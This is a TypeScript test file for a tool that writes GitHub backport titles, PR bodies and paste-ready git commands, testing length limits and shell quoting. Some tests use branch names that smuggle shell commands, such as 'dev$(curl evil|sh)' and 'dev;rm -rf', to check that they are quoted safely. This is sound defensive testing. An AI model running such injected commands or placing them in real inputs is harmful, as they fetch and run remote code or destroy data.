/** Backport titles and bodies within GitHub's limits; commands safe to paste whatever the branch name. */

import type { CommitSummary } from "../../src/policy/types.js";
import {
  renderBackportBody,
  renderBackportTitle,
  renderConflict,
  renderPickConflictIssue,
  renderPickConflictIssueTitle,
  renderWorkflowsRefused,
  withReleaseLine,
  type BackportBody,
} from "../../src/render/backport.js";
import { ISSUE_BODY, TITLE } from "../../src/render/limits.js";

const commits = (n: number, title = (i: number) => `Fix ${i}`): CommitSummary[] => Array.from({ length: n }, (_, i) => ({ sha: `${i}`.padStart(40, "0"), title: title(i) }));
const body = (over: Partial<BackportBody> = {}): BackportBody => ({
  kind: "hotfix",
  source: { number: 12, title: "Fix drift threshold" },
  production: "production",
  development: "development",
  mergeCommitSha: "b".repeat(40),
  commits: commits(2),
  extra: [],
  filesChanged: 1,
  reviewerProblems: [],
  ...over,
});

describe("titles", () => {
  const p = { development: "development", production: "production", number: 12 };

  it("keep a title that fits as it was", () => {
    expect(renderBackportTitle("hotfix", { ...p, title: "Fix drift threshold" })).toBe("[development] Fix drift threshold (backport #12)");
    expect(renderBackportTitle("sync", { ...p, title: "ignored" })).toBe("[development] Merge production back after sync #12");
  });

  it("shorten a 250-character title to 256, keeping the prefix and the suffix", () => {
    const title = renderBackportTitle("hotfix", { ...p, title: `${"a".repeat(225)}👩‍👩‍👧${"b".repeat(17)}` });
    expect(title.length).toBeLessThanOrEqual(TITLE.chars);
    expect(title).toMatch(/^\[development\] a+… \(backport #12\)$/); // the family emoji is not split: it is left out whole
  });

  it("fit the tracking issue title whatever the branch name", () => {
    expect(renderPickConflictIssueTitle(12, "development")).toBe("Backport #12 to development: cherry-pick conflicts");
    const long = renderPickConflictIssueTitle(12, "d".repeat(300));
    expect(long.length).toBeLessThanOrEqual(TITLE.chars);
    expect(long.endsWith("…: cherry-pick conflicts")).toBe(true);
  });
});

describe("the body", () => {
  it("lists 50 commits and says how many more and where they all are", () => {
    const out = renderBackportBody(body({ commits: commits(250), totalCommits: 400 }));
    expect(out).toContain("### Commits it brings (400)");
    expect(out.split("\n").filter((l) => /^- \d{7} Fix/.test(l))).toHaveLength(50);
    expect(out).toContain("- … and 350 more: see the Commits tab of this PR");
  });

  it("says how many more when compare listed them all but there are more", () => {
    const out = renderBackportBody(body({ commits: commits(3), totalCommits: 260 }));
    expect(out).toContain("- … and 257 more: see the Commits tab of this PR");
  });

  it("stays within 65,536 characters with huge titles, notes and reviewer problems", () => {
    const huge = "t".repeat(70_000);
    const out = renderBackportBody(
      body({ source: { number: 12, title: huge }, commits: commits(50, () => huge), extra: commits(50, () => huge), note: huge, reviewerProblems: [huge, huge] }),
    );
    expect(out.length).toBeLessThanOrEqual(ISSUE_BODY.chars);
    expect(out).toContain("see the Commits tab of this PR");
  });

  it("adds the release line within the limit, even to a body at the limit", () => {
    const full = `Backports #12.\n\n${"- line\n".repeat(9_362)}`.slice(0, ISSUE_BODY.chars);
    const out = withReleaseLine(full, "v1.2.0", "https://github.com/acme/forecast/releases/tag/v1.2.0");
    expect(out.length).toBeLessThanOrEqual(ISSUE_BODY.chars);
    expect(out).toContain("Backports #12.\n\nProduction release: [v1.2.0](https://github.com/acme/forecast/releases/tag/v1.2.0).");
    expect(withReleaseLine(out, "v1.2.0", "https://github.com/acme/forecast/releases/tag/v1.2.0")).toBe(out);
  });
});

describe("commands to paste", () => {
  it("quote a branch name that a shell would run", () => {
    const out = renderConflict("backport/development/pr-12", "dev$(curl evil|sh)");
    expect(out).toContain("git switch --track origin/backport/development/pr-12\ngit merge 'origin/dev$(curl evil|sh)'");
    const issue = renderPickConflictIssue(12, "it's`x`", "c".repeat(40));
    expect(issue).toContain("git switch -c 'backport/it'\\''s`x`/pr-12' 'origin/it'\\''s`x`'");
    expect(issue.split("\n").filter((l) => l.startsWith("```"))).toHaveLength(2);
  });
});

describe("renderWorkflowsRefused", () => {
  const sha = "a1b2c3d4e5f60718293a4b5c6d7e8f9012345678";
  it("merge-back: one push of the merge commit to the backport branch, then /backport", () => {
    const text = renderWorkflowsRefused({ source: 12, branch: "backport/development/pr-12", development: "development", mergeCommitSha: sha, strategy: "merge-back" });
    expect(text).toContain(["```sh", "git fetch origin", `git push origin ${sha}:refs/heads/backport/development/pr-12`, "```"].join("\n"));
    expect(text).toContain("comment `/backport`");
  });
  it("cherry-pick: the pick on development, the push and the PR, with names from the config quoted for the shell", () => {
    const text = renderWorkflowsRefused({ source: 12, branch: "backport/dev;rm -rf/pr-12", development: "dev;rm -rf", mergeCommitSha: sha, strategy: "cherry-pick" });
    expect(text).toContain("git switch -c 'backport/dev;rm -rf/pr-12' 'origin/dev;rm -rf'");
    expect(text).toContain(`git cherry-pick -m 1 ${sha}`);
    expect(text).toContain("gh pr create --base 'dev;rm -rf' --head 'backport/dev;rm -rf/pr-12'");
    expect(text).not.toContain("/backport`");
  });
});
